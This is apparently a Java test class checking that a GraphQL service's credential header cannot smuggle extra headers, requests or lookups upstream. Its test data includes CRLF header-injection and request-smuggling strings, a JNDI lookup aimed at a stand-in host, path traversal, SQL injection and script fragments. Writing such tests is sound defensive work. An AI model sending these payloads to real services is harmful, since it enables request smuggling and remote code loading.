package io.orgraph.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.orgraph.sandbox.RecordedCall;
import io.orgraph.sandbox.Sandbox;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A credential is a credential or nothing: whatever stands in its header, no second header or request comes of it. */
@MicronautTest
class CredentialHeadersTest {
    private static final String QUERY = "{\"query\":\"{ organizations { nodes { workspaces { totalCount } } } }\"}";
    private static final String HEADER = "Orgraph-Credential-transactionlink";

    private final RawConnection door;
    private final Sandbox sandbox;

    CredentialHeadersTest(EmbeddedServer server, Sandbox sandbox) {
        this.door = new RawConnection(server, 10_000);
        this.sandbox = sandbox;
    }

    @BeforeEach
    void forgetHits() {
        sandbox.calls().clear();
    }

    @ParameterizedTest
    @MethodSource("refused")
    void what_cannot_stand_in_a_header_upstream_is_refused(String value) {
        RawConnection.Answered answered = door.send(request(HEADER, value));

        assertThat(answered.statuses()).hasSize(1).allMatch(status -> status == 400 || status == 401);
        assertThat(answered.text()).doesNotContain("evil", "canary");
        assertThat(sandbox.calls().all()).isEmpty();
    }

    @ParameterizedTest
    @MethodSource("taken")
    void what_can_is_sent_as_it_is_and_opens_nothing(String value) {
        RawConnection.Answered answered = door.send(request(HEADER, value));

        assertThat(answered.statuses()).containsExactly(294);
        assertThat(answered.text()).contains("UNAUTHENTICATED").doesNotContain("evil", "canary");
        assertThat(sandbox.calls().all())
                .extracting(RecordedCall::line)
                .containsExactly("GET /transactionlink/organizations/workspaces");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Orgraph-Credential-",
                "Orgraph-Credential-evil",
                "Orgraph-Credential-transactionlink2",
                "Orgraph-Credential-transactionlink.evil.example",
                "Orgraph-Credential-..",
                "Orgraph-Credential-%74ransactionlink",
                "Orgraph-Credential-transact\u0131onlink",
                "Orgraph-Credential-transactionlink "
            })
    void a_header_for_another_source_is_refused(String header) {
        RawConnection.Answered answered = door.send(request(header, "tot_sandbox_admin"));

        assertThat(answered.statuses()).containsExactly(400);
        assertThat(sandbox.calls().all()).isEmpty();
    }

    static List<String> refused() {
        return List.of(
                "",
                " ",
                "a b",
                "a\tb",
                "a\rX-Evil: 1",
                "a\nX-Evil: 1",
                "a\r\n\r\nGET /evil HTTP/1.1",
                "a\u0000b",
                "a\u0001b",
                "a\u007fb",
                "a\u0085b",
                "a\u00a0b",
                "\u00e9vil",
                "a\u001b[31m",
                "a\u000bb",
                "a\u000cb",
                "a".repeat(513),
                "a".repeat(4_097),
                "Basic Y2FuYXJ5",
                "Digest canary",
                "Bearer a b",
                "tot_sandbox_admin\r\n" + HEADER + ": tot_sandbox_admin");
    }

    static List<String> taken() {
        return List.of(
                "canary",
                "a,b",
                "a;b=c",
                "a=b&c=d",
                "..",
                "../../evil",
                "http://evil.example",
                "%0d%0aX-Evil:1",
                "\\r\\nX-Evil:1",
                "${jndi:ldap://evil.example}",
                "\"quoted\"",
                "'or'1'='1",
                "<script>",
                "null",
                "Bearer",
                "a".repeat(512),
                "Cookie evil=1",
                "Cookie  a=b;c=d");
    }

    private static String request(String header, String value) {
        return "POST /graphql HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\n"
                + header
                + ": "
                + value
                + "\r\nContent-Length: "
                + QUERY.length()
                + "\r\n\r\n"
                + QUERY;
    }
}
